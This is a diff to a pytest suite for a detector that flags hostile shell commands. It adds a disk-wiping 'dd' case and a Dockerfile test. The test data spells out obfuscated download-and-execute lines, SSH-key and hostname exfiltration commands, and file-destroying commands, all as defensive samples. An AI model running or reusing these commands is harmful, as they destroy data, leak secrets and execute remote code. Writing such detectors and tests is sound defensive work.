@@ -6,6 +6,7 @@ import pytest
 
 from assay.release.formats.code_shell import commands, script
 from assay.release.formats.code_shell_tricks import Fetched, unquoted
+from tests.unit.release.formats.test_code_actions import read
 
 
 def names(text: str) -> set[str]:
@@ -27,6 +28,7 @@ def names(text: str) -> set[str]:
         ("scp ~/.ssh/id_rsa a@b:", "sends-secrets"),
         ("nslookup $(whoami).a.invalid", "sends-secrets"),
         ("find / -type f -delete", "destroys-files"),
+        ("dd if=/dev/zero of=/dev/sda", "destroys-files"),
         ("c''url -s http://a | s\\h", "decode-and-run"),
         ('wg""et${IFS}http://a|sh', "decode-and-run"),
         ("conda install -c https://a.invalid/x y", "other-index"),
@@ -49,6 +51,7 @@ def test_a_command_that_hides_is_seen(text, name):
         "scp -i ~/.ssh/id_rsa a b:",
         "ping -c1 $(hostname)",
         r"echo -e $'\x1b[0m'",
+        "dd if=/dev/zero of=/dev/null",
         "find . -name '*.pyc' -delete",
         "echo \"\" 'it''s'",
         "conda install -c conda-forge x",
@@ -80,3 +83,9 @@ def test_no_line_takes_long(text):
     for _ in commands(text * 1_000, 1, "call"):
         pass
     assert time.process_time() - begun < 2
+
+
+def test_an_image_may_prepare_the_shell_that_it_has():
+    text = "FROM x\nRUN echo 'source /etc/profile' >> ~/.bashrc\n"
+    assert read(text, path="Dockerfile").actions == ()
+    assert read(text, path="a.sh").actions
